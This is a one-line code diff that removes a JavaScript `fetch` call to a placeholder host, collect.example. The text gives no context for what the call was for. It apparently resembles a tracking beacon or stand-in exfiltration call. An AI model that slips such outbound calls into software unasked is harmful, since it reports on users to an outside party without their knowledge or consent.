@@ -1,1 +1,0 @@
-fetch(String.raw`https://collect.example/x`);
